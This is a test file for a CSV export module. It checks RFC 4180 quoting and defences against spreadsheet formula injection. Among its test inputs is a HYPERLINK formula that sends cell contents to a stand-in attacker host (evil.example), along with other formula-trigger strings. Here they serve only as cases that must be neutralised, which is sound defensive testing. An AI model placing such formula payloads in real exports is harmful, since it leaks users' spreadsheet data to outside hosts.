import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, toCsv } from '../../api/csv.js';

describe('RFC 4180', () => {
  it('quotes a cell with a comma, a quote or a line break, and doubles its quotes', () => {
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\nhere', 'plain'])).toBe(
      '"a,b","say ""hi""","two\nlines","cr\rhere","crlf\r\nhere",plain\r\n',
    );
  });

  it('writes null and undefined as empty cells, Dates as ISO instants, ISO strings as they are', () => {
    const at = new Date('2025-03-01T09:30:00.123Z');
    expect(csvLine([null, undefined, at, '2025-03-01T10:30:00+01:00', ''])).toBe(
      ',,2025-03-01T09:30:00.123Z,2025-03-01T10:30:00+01:00,\r\n',
    );
  });

  it('writes numbers and booleans as they are, objects and arrays as JSON', () => {
    expect(csvLine([5, 2.5, true, { lang: 'sv', note: 'x' }, ['a', 'b']])).toBe(
      '5,2.5,true,"{""lang"":""sv"",""note"":""x""}","[""a"",""b""]"\r\n',
    );
  });

  it('keeps text outside ASCII as it is', () => {
    expect(csvCell('Åsa Öberg')).toBe('Åsa Öberg');
  });

  it('ends every line with CRLF, the last one too', () => {
    expect(
      toCsv(
        ['id', 'phone'],
        [
          ['1', '+46701234567'],
          ['2', null],
        ],
      ),
    ).toBe('id,phone\r\n1,+46701234567\r\n2,\r\n');
    expect(toCsv(['id'], [])).toBe('id\r\n');
  });
});

describe('formula injection', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+cmd', "'+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tTAB', "'\tTAB"],
    ['-', "'-"],
    ['+46 70 123 45 67', "'+46 70 123 45 67"],
  ])('makes %j text for a spreadsheet', (input, output) => {
    expect(csvCell(input)).toBe(output);
  });

  it('guards inside the quotes when a cell needs both', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('-1+1\n')).toBe(`"'-1+1\n"`);
  });

  it('keeps phone numbers in E.164 and plain numbers exportable as they are', () => {
    expect(csvLine(['+46701234567', '+12125550123', '-5', '+3.25', -7, '0046701234567'])).toBe(
      '+46701234567,+12125550123,-5,+3.25,-7,0046701234567\r\n',
    );
  });

  it('leaves harmless text alone', () => {
    expect(csvLine(['a=b', 'mail@example.com', 'x-y', "'quoted"])).toBe("a=b,mail@example.com,x-y,'quoted\r\n");
  });
});
